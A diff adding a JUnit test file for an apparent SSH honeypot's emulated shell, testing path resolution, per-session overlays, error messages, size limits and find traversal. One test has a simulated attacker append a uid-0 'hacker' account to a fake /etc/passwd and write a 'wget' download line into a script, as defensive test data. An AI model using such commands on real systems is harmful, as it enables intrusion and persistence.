@@ -0,0 +1,163 @@
+package com.eduardo.HoneyPot.shell;
+
+import org.junit.jupiter.api.Test;
+
+import java.nio.file.DirectoryNotEmptyException;
+import java.nio.file.FileSystemException;
+import java.nio.file.NoSuchFileException;
+import java.nio.file.NotDirectoryException;
+import java.time.LocalDateTime;
+import java.util.List;
+
+import static org.junit.jupiter.api.Assertions.*;
+
+class ShellSessionTest {
+
+	private final FileSystemImage image = FileSystemImage.of(List.of(
+		entry("/root", "DIRECTORY", null),
+		entry("/root/.bashrc", null, "alias ll='ls -l'\n"),
+		entry("/etc/passwd", null, "root:x:0:0:root:/root:/bin/bash\n"),
+		entry("/etc/hosts", null, "127.0.0.1 localhost\n"),
+		entry("/tmp", "DIRECTORY", null)
+	), LocalDateTime.of(2025, 1, 15, 10, 30));
+
+	@Test
+	void resolvesPathsRelativeToCwdAndHome() throws Exception {
+		ShellSession shell = new ShellSession(image, "/root", 100, 1024, 1000, 1000);
+		assertEquals("/root", shell.getCwd());
+		assertEquals("~", shell.getDisplayCwd());
+
+		shell.cd("../etc/./");
+		assertEquals("/etc", shell.getCwd());
+		assertEquals("/etc/passwd", shell.resolve("passwd"));
+		assertEquals("/root/.bashrc", shell.resolve("~/.bashrc"));
+		assertEquals("/", shell.resolve("../../.."));
+
+		assertThrows(NoSuchFileException.class, () -> shell.cd("/nope"));
+		assertThrows(NotDirectoryException.class, () -> shell.cd("/etc/hosts"));
+		shell.cd(null);
+		assertEquals("/root", shell.getCwd());
+	}
+
+	@Test
+	void writesStayInTheSessionOverlay() throws Exception {
+		ShellSession attacker = new ShellSession(image, "/root", 100, 1024, 1000, 1000);
+		ShellSession other = new ShellSession(image, "/root", 100, 1024, 1000, 1000);
+
+		attacker.write("/etc/passwd", "hacker:x:0:0::/root:/bin/sh\n", true);
+		attacker.write("/tmp/x.sh", "wget http://example.com/x\n", false);
+		attacker.remove("/etc/hosts", false);
+
+		assertTrue(attacker.read("/etc/passwd").endsWith("hacker:x:0:0::/root:/bin/sh\n"));
+		assertEquals(List.of("passwd"), attacker.list("/etc"));
+		assertEquals(List.of("x.sh"), attacker.list("/tmp"));
+		assertEquals(3, attacker.getOverlaySize());
+
+		// A imagem e as outras sessões não enxergam as alterações
+		assertEquals("root:x:0:0:root:/root:/bin/bash\n", other.read("/etc/passwd"));
+		assertEquals(List.of("hosts", "passwd"), other.list("/etc"));
+		assertEquals(List.of(), other.list("/tmp"));
+		assertEquals(0, other.getOverlaySize());
+		assertNotNull(image.get("/etc/hosts"));
+	}
+
+	@Test
+	void recreatedDirectoryHidesRemovedBaseContent() throws Exception {
+		ShellSession shell = new ShellSession(image, "/root", 100, 1024, 1000, 1000);
+
+		shell.remove("/etc", true);
+		assertNull(shell.stat("/etc/passwd"));
+		assertEquals(List.of("root", "tmp"), shell.list("/"));
+
+		shell.mkdir("/etc/cron.d", true);
+		assertEquals(List.of("cron.d"), shell.list("/etc"));
+		assertNull(shell.stat("/etc/passwd"));
+		assertThrows(NoSuchFileException.class, () -> shell.read("/etc/hosts"));
+
+		// Remover o diretório criado volta a esconder a base
+		shell.remove("/etc", true);
+		assertNull(shell.stat("/etc"));
+		assertEquals(1, shell.getOverlaySize());
+	}
+
+	@Test
+	void touchingABaseDirectoryKeepsItsChildren() throws Exception {
+		ShellSession shell = new ShellSession(image, "/root", 100, 1024, 1000, 1000);
+		shell.touch("/etc");
+		shell.touch("/etc/hosts");
+
+		assertEquals(List.of("hosts", "passwd"), shell.list("/etc"));
+		assertEquals("127.0.0.1 localhost\n", shell.read("/etc/hosts"));
+		assertEquals(1, shell.getOverlaySize());
+	}
+
+	@Test
+	void reportsShellErrors() throws Exception {
+		ShellSession shell = new ShellSession(image, "/root", 100, 1024, 1000, 1000);
+
+		assertEquals("Is a directory", assertThrows(FileSystemException.class, () -> shell.read("/etc")).getReason());
+		assertEquals("Is a directory", assertThrows(FileSystemException.class, () -> shell.remove("/tmp", false)).getReason());
+		assertThrows(NoSuchFileException.class, () -> shell.write("/nope/file", "x", false));
+		assertThrows(NotDirectoryException.class, () -> shell.mkdir("/etc/hosts/dir", false));
+		assertThrows(DirectoryNotEmptyException.class, () -> shell.rmdir("/etc"));
+		shell.mkdir("/tmp/a", false);
+		shell.rmdir("/tmp/a");
+		assertEquals(List.of(), shell.list("/tmp"));
+	}
+
+	@Test
+	void overlayIsBounded() throws Exception {
+		ShellSession shell = new ShellSession(image, "/root", 2, 8, 1000, 1000);
+
+		assertEquals("No space left on device",
+			assertThrows(FileSystemException.class, () -> shell.write("/tmp/big", "123456789", false)).getReason());
+		shell.touch("/tmp/a");
+		shell.touch("/tmp/b");
+		shell.touch("/tmp/a");
+		assertEquals("No space left on device",
+			assertThrows(FileSystemException.class, () -> shell.touch("/tmp/c")).getReason());
+		assertEquals(2, shell.getOverlaySize());
+	}
+
+	@Test
+	void findWalksMergedTreeInPreOrder() throws Exception {
+		ShellSession shell = new ShellSession(image, "/root", 100, 1024, 1000, 1000);
+		shell.mkdir("/tmp/.x/y", true);
+		shell.touch("/tmp/.x/y/z");
+		shell.remove("/etc/hosts", false);
+
+		assertEquals(List.of("/tmp", "/tmp/.x", "/tmp/.x/y", "/tmp/.x/y/z"), shell.find("/tmp"));
+		assertEquals(List.of("/etc", "/etc/passwd"), shell.find("/etc"));
+		assertThrows(NoSuchFileException.class, () -> shell.find("/etc/hosts"));
+	}
+
+	@Test
+	void findStopsAtNodeAndResultLimits() throws Exception {
+		ShellSession visits = new ShellSession(image, "/root", 100, 1024, 3, 1000);
+		visits.mkdir("/tmp/.x/y", true);
+		visits.touch("/tmp/.x/y/z");
+
+		assertEquals(List.of("/tmp", "/tmp/.x", "/tmp/.x/y"), visits.find("/tmp"));
+		assertEquals(List.of(), visits.find("/tmp", (path, node) -> path.endsWith("z")));
+
+		ShellSession results = new ShellSession(image, "/root", 100, 1024, 1000, 2);
+		results.mkdir("/tmp/.x/y", true);
+		results.touch("/tmp/.x/y/z");
+
+		assertEquals(List.of("/tmp/.x", "/tmp/.x/y"), results.find("/tmp", (path, node) -> node.directory() && !path.equals("/tmp")));
+	}
+
+	@Test
+	void imageRejectsInvalidSnapshots() {
+		assertThrows(IllegalArgumentException.class,
+			() -> FileSystemImage.of(List.of(entry("etc/passwd", null, "")), LocalDateTime.now()));
+		assertThrows(IllegalArgumentException.class, () -> FileSystemImage.of(List.of(
+			entry("/etc/passwd", null, ""), entry("/etc/passwd/x", null, "")), LocalDateTime.now()));
+		assertEquals(List.of("hosts", "passwd"), image.children("/etc"));
+		assertTrue(image.get("/etc").directory());
+	}
+
+	private static FileSystemImage.SnapshotEntry entry(String path, String type, String content) {
+		return new FileSystemImage.SnapshotEntry(path, type, content, null, null);
+	}
+}